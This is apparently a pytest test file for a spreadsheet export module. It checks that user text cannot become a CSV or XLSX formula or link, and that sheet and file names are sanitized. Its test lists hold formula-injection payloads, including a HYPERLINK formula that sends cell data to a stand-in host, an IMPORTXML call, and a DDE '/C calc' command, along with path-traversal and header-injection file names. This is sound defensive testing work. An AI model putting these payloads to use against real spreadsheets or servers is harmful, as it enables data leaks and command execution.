"""Files for spreadsheets: no text of a stranger becomes a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import string
import tracemalloc
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from accounts import spreadsheets
from accounts.spreadsheets import (
    MOST_CHARACTERS,
    csv_lines,
    file_name,
    safe,
    sheet_name,
    xlsx_file,
)

BEGINNINGS = "=+-@\t\r\n|%＝＋－＠"
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "|calc",
    "%0A=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    '"=1',
    "'=1",
    "' \"=1",
    '=HYPERLINK("https://evil.test?x="&A1,"click")',
    '=IMPORTXML("https://evil.test","//a")',
    "=cmd|'/C calc'!A0",
    "+49 30 123456",
    "-",
]


def read_csv(header, rows) -> list[list[str]]:
    text = "".join(csv_lines(header, rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def read_xlsx(*sheets):
    with xlsx_file(sheets) as file:
        return openpyxl.load_workbook(io.BytesIO(file.read()))


def column(values):
    sheet = read_xlsx(("t", ["v"], [[value] for value in values])).active
    return [sheet.cell(number, 1) for number in range(2, len(values) + 2)]


# --- CSV --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_could_be_a_formula_gets_an_apostrophe(text):
    ((_head,), (cell,)) = read_csv(["v"], [[text]])
    assert cell == "'" + text.replace("\0", "")


@pytest.mark.parametrize("text", ["", "a=b", "x-y", "a@b.test", "50%", "12", "-5", "-1.5", "Ünï"])
def test_plain_text_and_numbers_in_text_stay_as_they_are(text):
    assert safe(text) == text


@pytest.mark.parametrize("number", [-5, -1.5, Decimal("-0.10"), 0, 10**20, True])
def test_numbers_are_written_as_numbers(number):
    assert read_csv(["v", "w"], [[number, ""]])[1][0] == str(number)


@pytest.mark.parametrize("nothing", [None, float("nan"), float("inf"), -float("inf")])
def test_what_nobody_measured_is_an_empty_cell(nothing):
    assert read_csv(["v", "w"], [[nothing, 1]])[1] == ["", "1"]


@pytest.mark.parametrize("text", ['a,"b"', "a\nb", "a\r\nb", "a;=1+1", "a\t=1+1", " x "])
def test_a_cell_never_becomes_two_whatever_the_spreadsheet_parts_by(text):
    written = "".join(csv_lines(["v"], [[text]])).splitlines(keepends=True)[1:]
    assert "".join(written).startswith('"')
    assert read_csv(["v"], [[text]])[1] == [text]


def test_half_a_character_breaks_no_file():
    assert "".join(csv_lines(["v"], [["\ud800x"]])).encode().endswith(b"?x\r\n")


@given(st.lists(st.text(st.characters(exclude_characters="\0", codec="utf-8")), min_size=1))
def test_every_row_comes_back_and_no_cell_begins_a_formula(row):
    cells = read_csv(row, [row])[1] if row != [""] else [""]
    assert [cell.removeprefix("'") for cell in cells] == [text.removeprefix("'") for text in row]
    for cell in cells:
        plain = cell.replace(".", "").removeprefix("-")
        numeric = plain.isdigit() and plain.isascii()
        assert numeric or not cell.strip(string.whitespace + '"').startswith(tuple(BEGINNINGS))


# --- XLSX -------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*ATTACKS, "https://evil.test", "mailto:a@b.test", "12", "{=1}"])
def test_text_is_text_in_a_sheet_never_a_formula_or_a_link(text):
    (cell,) = column([text])
    assert cell.data_type in ("s", "inlineStr")
    assert cell.hyperlink is None
    if "\0" not in text:
        assert cell.value == text.replace("\r", "\n")


def test_numbers_days_and_moments_are_what_they_are():
    moment = datetime(2026, 3, 1, 12, 30, tzinfo=UTC)
    cells = column([-5, 1.5, Decimal("0.10"), True, date(2026, 3, 1), moment, None])
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "b", "d", "d", "n"]
    assert cells[4].value.isoformat() == "2026-03-01T00:00:00"
    assert cells[5].value.isoformat() == "2026-03-01T12:30:00"
    assert cells[6].value is None


@pytest.mark.parametrize(
    "value", [2**63, 10**15, date(1800, 1, 1), datetime(1, 1, 1, tzinfo=UTC), b"x", {"a": 1}]
)
def test_what_a_sheet_cannot_count_stays_text(value):
    (cell,) = column([value])
    assert (cell.data_type, cell.value) == ("s", str(value)) or cell.data_type == "inlineStr"


def test_a_cell_is_cut_where_spreadsheets_cut_it():
    (cell,) = column(["x" * 40_000])
    assert len(cell.value) == MOST_CHARACTERS


def test_the_header_stays_in_sight_and_is_text():
    book = read_xlsx(("Pages", ["=1+1", "views"], [["/", 3]]))
    sheet = book.active
    assert (sheet.freeze_panes, sheet.title) == ("A2", "Pages")
    assert sheet["A1"].data_type != "f"


@pytest.mark.parametrize(
    ("wanted", "name"),
    [
        ("Visits [all]: a/b\\c?*", "Visits  all   a b c"),
        ("", "Sheet"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("History", "History 2"),
        ("\0\x1f", "Sheet"),
    ],
)
def test_a_sheets_name_is_legal(wanted, name):
    assert sheet_name(wanted) == name
    assert read_xlsx((wanted, ["v"], [])).sheetnames == [name]


def test_sheets_of_the_same_name_are_told_apart():
    book = read_xlsx(*(("Pages" if n else "pages", ["v"], [[n]]) for n in range(3)))
    assert book.sheetnames == ["pages", "Pages 2", "Pages 3"]


def test_more_rows_than_a_sheet_has_are_refused(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MOST_ROWS", 3)
    assert read_xlsx(("t", ["v"], [[n] for n in range(3)])).active.max_row == 4
    with pytest.raises(spreadsheets.TooManyRows):
        xlsx_file([("t", ["v"], [[n] for n in range(4)])])


def test_a_long_sheet_takes_no_more_memory_than_a_short_one():
    xlsx_file([("t", ["v"], [])]).close()  # what is imported stays

    def most(rows: int) -> int:
        tracemalloc.start()
        xlsx_file([("t", ["a", "b"], ([n, f"text {n}"] for n in range(rows)))]).close()
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return peak

    assert most(6_000) < most(1_000) + 500_000


@given(st.lists(st.text(max_size=50), min_size=1, max_size=5))
def test_any_text_makes_a_sheet_that_opens(texts):
    assert all(cell.data_type != "f" for cell in column(texts))


# --- Names of files ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("wanted", "name"),
    [
        ("demo-page-2026-11-01", "demo-page-2026-11-01.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ("a\r\nSet-Cookie: x", "a-Set-Cookie-x.csv"),
        ('a"b', "a-b.csv"),
        ("CON", "_CON.csv"),
        ("con.x", "_con.x.csv"),
        ("", "file.csv"),
        ("...", "file.csv"),
        ("\u202egpj", "gpj.csv"),
        ("Größe 🚀", "Größe-🚀.csv"),
    ],
)
def test_a_files_name_can_be_saved_anywhere(wanted, name):
    assert file_name(wanted, "csv") == name


@given(st.text())
def test_any_wish_makes_a_name_of_a_file(wanted):
    name = file_name(wanted, "xlsx")
    assert name.endswith(".xlsx")
    assert 6 <= len(name.encode()) <= 110
    assert not set(name) & set('/\\:*?"<>|\r\n\0')
    assert not name.startswith((".", "-"))
